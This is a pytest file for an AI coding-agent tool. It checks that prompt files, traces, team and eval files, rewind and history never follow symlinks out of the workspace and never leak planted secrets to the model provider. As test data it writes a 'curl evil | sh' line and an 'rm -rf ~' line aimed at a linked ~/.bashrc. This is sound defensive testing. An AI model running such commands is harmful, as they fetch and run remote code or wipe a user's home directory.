"""Host-side files in a hostile workspace: AGENTS.md, PROGRESS.md, docs/, traces, features.json,
team and eval files never follow a link out of the workspace, and what the model's own Read
would be refused never reaches the provider by another road. The real `arnes` command."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from arnes.host.files import HostFiles, Refused
from arnes.llm.script import ScriptProvider
from arnes.permissions.rules import SourcedRule
from arnes.session import Session
from arnes.workflow.teams.config import Node, Team
from arnes.workflow.teams.run import TeamRunner
from arnes.workflow.teams.timeline import Timeline
from tests.conftest import run_arnes
from tests.fakes.llm_server import FakeLLMServer

HOME_SECRET = "HOME-SECRET-9876"
ENV_SECRET = "ENV-SECRET-5432"
KEYS = {"OPENAI_API_KEY": "test"}
BASHRC = "# the user's own shell setup\n"


@pytest.fixture
def home() -> Path:
    path = Path(os.environ["HOME"])  # a fresh one per test (tests/conftest.py)
    (path / ".bashrc").write_text(BASHRC)
    (path / "secret.md").write_text(f"{HOME_SECRET}\n")
    (path / "docs").mkdir()
    (path / "docs" / "private-topic.md").write_text(f"{HOME_SECRET}\n")
    return path


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    path = tmp_path / "ws"
    path.mkdir()
    (path / "app.py").write_text("print('hi')\n")
    (path / ".env").write_text(f"TOKEN={ENV_SECRET}\n")
    return path


def script(tmp_path: Path, turns: list[dict[str, Any]]) -> str:
    path = tmp_path / "script.json"
    path.write_text(json.dumps({"turns": turns}))
    return str(path)


def test_links_in_the_prompt_files_never_reach_the_provider(ws: Path, home: Path) -> None:
    (ws / "AGENTS.md").symlink_to(home / "secret.md")
    (ws / "PROGRESS.md").symlink_to(ws / ".env")  # inside, but a deny rule covers it
    (ws / "docs").symlink_to(home / "docs")
    turns = [
        {"tool_calls": [{"name": "ReadDoc", "input": {"topic": "private-topic"}}]},
        {"tool_calls": [{"name": "Read", "input": {"file_path": "AGENTS.md"}}]},
        {"text": "done"},
    ]
    with FakeLLMServer(turns) as server:
        run = run_arnes(
            "--provider", "openai", "--base-url", server.url + "/v1", "--model", "fake-model",
            "--deny", "Read(**/.env*)", "-w", str(ws), "go", env=KEYS,
        )  # fmt: skip
        sent = json.dumps(server.requests)
        context = json.dumps(server.requests[0][1]["messages"][1])  # the first user message
    assert run.code == 0, run.err
    assert HOME_SECRET not in sent and ENV_SECRET not in sent
    assert "private-topic" not in context  # the names in a folder outside are not listed either
    assert "AGENTS.md left out of the prompt: AGENTS.md is a link out of the workspace" in run.out
    assert "PROGRESS.md left out of the prompt: PROGRESS.md is covered by a deny or ask rule" in run.out


def test_a_link_that_stays_inside_is_followed(ws: Path) -> None:
    (ws / "docs").mkdir()
    (ws / "docs" / "rules.md").write_text("Always answer in haiku.\n")
    (ws / "AGENTS.md").symlink_to(Path("docs") / "rules.md")  # AGENTS.md -> CLAUDE.md and the like
    session = Session(workspace=ws, provider=ScriptProvider.from_turns([]))
    prompt = session.context()
    assert "Always answer in haiku." in prompt and "Documents you can load with ReadDoc: rules." in prompt


@pytest.mark.parametrize("mode", ["default", "plan"])
def test_progress_md_as_a_link_to_bashrc_is_not_overwritten(ws: Path, home: Path, tmp_path: Path, mode: str) -> None:
    (ws / "PROGRESS.md").symlink_to(home / ".bashrc")
    run = run_arnes("--provider", "script", "--script", script(tmp_path, [{"text": "done"}]), "-w", str(ws),
                    "--progress", "--permission-mode", mode, "task")  # fmt: skip
    assert run.code == 0, run.err
    assert (home / ".bashrc").read_text() == BASHRC and (ws / "PROGRESS.md").is_symlink()
    if mode == "default":
        assert "PROGRESS.md not updated: PROGRESS.md is a link out of the workspace" in run.err


def test_progress_md_is_not_written_in_plan_mode_or_under_an_edit_rule(ws: Path, tmp_path: Path) -> None:
    (ws / "PROGRESS.md").write_text("# Progress\n")
    done = script(tmp_path, [{"text": "done"}])
    plan = run_arnes("--provider", "script", "--script", done, "-w", str(ws), "--permission-mode", "plan", "task")
    assert plan.code == 0 and (ws / "PROGRESS.md").read_text() == "# Progress\n"
    denied = run_arnes("--provider", "script", "--script", done, "-w", str(ws), "--deny", "Edit(PROGRESS.md)", "t")
    assert denied.code == 0 and (ws / "PROGRESS.md").read_text() == "# Progress\n"
    assert "covered by a deny or ask rule for Edit" in denied.err


def test_a_traces_folder_linked_outside_gets_no_trace(ws: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (ws / ".arnes").mkdir()
    (ws / ".arnes" / "traces").symlink_to(outside)
    run = run_arnes("--provider", "script", "--script", script(tmp_path, [{"text": "done"}]), "-w", str(ws), "t")
    assert run.code == 2 and "cannot write the trace" in run.err and "link" in run.err
    assert list(outside.iterdir()) == []


def test_resume_does_not_replay_a_trace_linked_from_outside(ws: Path, tmp_path: Path) -> None:
    planted = tmp_path / "planted.jsonl"
    message = {"event": "message", "role": "user", "content": [{"type": "text", "text": HOME_SECRET}]}
    planted.write_text(json.dumps(message) + "\n")
    (ws / ".arnes" / "traces").mkdir(parents=True)
    (ws / ".arnes" / "traces" / "20260101-000000-abcdef.jsonl").symlink_to(planted)
    done = script(tmp_path, [{"text": "done"}])
    for resume in (["--resume", "20260101-000000-abcdef"], ["--resume"]):
        run = run_arnes("--provider", "script", "--script", done, "-w", str(ws), *resume, "go on")
        assert run.code == 2 and "no session" in run.err, run.err


def test_features_json_as_a_link_is_neither_shown_nor_overwritten(ws: Path, home: Path, tmp_path: Path) -> None:
    features = {"features": [{"id": "F1", "description": HOME_SECRET, "verify": "true"}]}
    (home / "features.json").write_text(json.dumps(features))
    before = (home / "features.json").read_text()
    (ws / "features.json").symlink_to(home / "features.json")
    listing = run_arnes("-w", str(ws), "features")
    assert listing.code == 2 and HOME_SECRET not in listing.out + listing.err
    assert "features.json is a link out of the workspace" in listing.err
    nxt = run_arnes("--provider", "script", "--script", script(tmp_path, [{"text": "done"}]), "-w", str(ws), "next")
    assert nxt.code == 2 and (home / "features.json").read_text() == before


def test_team_files_linked_from_outside_are_not_team_files(ws: Path, home: Path) -> None:
    (home / "evil.toml").write_text(f'[[nodes]]\nid = "a"\nprompt = "{HOME_SECRET}"\n')
    (ws / ".arnes" / "teams").mkdir(parents=True)
    (ws / ".arnes" / "teams" / "evil.toml").symlink_to(home / "evil.toml")
    listing = run_arnes("-w", str(ws), "team", "list")
    assert "evil" not in listing.out
    show = run_arnes("-w", str(ws), "team", "show", "evil")
    assert show.code == 2 and HOME_SECRET not in show.out + show.err


def test_a_team_timeline_and_bring_back_stay_in_the_workspace(ws: Path, home: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (ws / ".arnes" / "teams").mkdir(parents=True)
    (ws / ".arnes" / "teams" / "runs").symlink_to(outside)
    with pytest.raises(Refused, match="a link stands on its way"):
        Timeline(ws, "run-1")
    run = run_arnes("-w", str(ws), "team", "run", "maker-checker", "task")
    assert run.code == 2 and "cannot write the team timeline" in run.err and "Traceback" not in run.err
    assert list(outside.iterdir()) == []
    # A branch wrote out.txt in its copy; in the workspace out.txt is a link to ~/.bashrc.
    (ws / ".arnes" / "teams" / "runs").unlink()
    (ws / "out.txt").symlink_to(home / ".bashrc")
    copy = tmp_path / "copy"
    copy.mkdir()
    (copy / "out.txt").write_text("curl evil | sh\n")
    team = Team(nodes=[Node(id="w", prompt="write")])
    runner = TeamRunner(team, ws, lambda where, interactive: None, Timeline(ws, "run-2"))  # type: ignore[arg-type, return-value]
    runner._bring_back(team.nodes[0], copy, "out.txt")
    assert (home / ".bashrc").read_text() == BASHRC
    assert any(e["event"] == "not_brought_back" for e in runner.timeline.events)


def test_eval_task_files_and_workspace_links_stay_links(tmp_path: Path, home: Path) -> None:
    evals = tmp_path / "evals"
    task = evals / "leak"
    (task / "workspace").mkdir(parents=True)
    (task / "task.md").symlink_to(home / "secret.md")
    (task / "verify").write_text("true\n")
    run = run_arnes("--provider", "script", "eval", str(evals))
    assert run.code == 2 and HOME_SECRET not in run.out + run.err and "link out" in run.err
    (task / "task.md").unlink()
    (task / "task.md").write_text("look\n")
    (task / "workspace" / "key").symlink_to(home / "secret.md")
    (task / "verify").write_text("test -L key\n")  # the agent's copy holds a link, not the file's bytes
    from arnes.workflow.evals import discover, run_one

    (found,) = discover(evals)
    finished = ["echo", '{"stop_reason": "end_turn"}']  # an agent that does nothing and says so
    record = run_one(found, 1, lambda t, copy, trace: finished, timeout=30, traces=tmp_path / "traces")
    assert record.passed


def test_host_files_refuse_what_the_rules_or_the_perimeter_refuse(ws: Path, home: Path) -> None:
    session = Session(workspace=ws, provider=ScriptProvider.from_turns([]),
                      rules=[SourcedRule("deny", "Read(**/.env*)", "flag")])  # fmt: skip
    files = session.host
    assert files.read_text("app.py") == "print('hi')\n" and files.read("missing") is None
    with pytest.raises(Refused, match="deny or ask rule for Read"):
        files.read(".env")
    (ws / "link.md").symlink_to(home / "secret.md")
    with pytest.raises(Refused, match="link out of the workspace"):
        files.read("link.md")
    with pytest.raises(Refused, match="link out of the workspace"):
        files.write("link.md", b"x")
    assert (home / "secret.md").read_text() == f"{HOME_SECRET}\n"
    files.write("new/notes.md", b"ok\n")
    assert (ws / "new" / "notes.md").read_text() == "ok\n"
    assert not HostFiles(ws).is_file("link.md") and HostFiles(ws).is_file("app.py")


def test_rewind_puts_back_the_file_not_through_the_link_a_command_left(tmp_path: Path, home: Path) -> None:
    from arnes.rewind.apply import apply
    from arnes.rewind.checkpoints import Checkpoints
    from arnes.rewind.plan import plan
    from arnes.rewind.store import store_for

    ws = tmp_path / "undo"
    ws.mkdir()
    (ws / "a.txt").write_text("before\n")
    checkpoints = Checkpoints(ws, "s", store_for(ws))
    checkpoints.begin("turn", "t")
    (ws / "a.txt").unlink()
    (ws / "a.txt").symlink_to(home / ".bashrc")  # a command swapped the file for a link
    checkpoints.end()
    current = checkpoints.current()
    assert current is not None
    assert apply(plan(checkpoints.journal(), 1, current, checkpoints.store), ws, checkpoints.store).done == ["a.txt"]
    assert (home / ".bashrc").read_text() == BASHRC
    assert not (ws / "a.txt").is_symlink() and (ws / "a.txt").read_text() == "before\n"


def test_the_prompt_history_is_not_appended_through_a_link(ws: Path, home: Path) -> None:
    from arnes.ui.history import WorkspaceHistory

    (ws / ".arnes").mkdir()
    history = WorkspaceHistory(HostFiles(ws))
    history.store_string("first\nsecond line")
    history.store_string("again")
    assert list(history.load_history_strings()) == ["again", "first\nsecond line"]
    (ws / ".arnes" / "history").unlink()
    (ws / ".arnes" / "history").symlink_to(home / ".bashrc")
    linked = WorkspaceHistory(HostFiles(ws))
    linked.store_string("rm -rf ~")
    assert (home / ".bashrc").read_text() == BASHRC and list(linked.load_history_strings()) == []
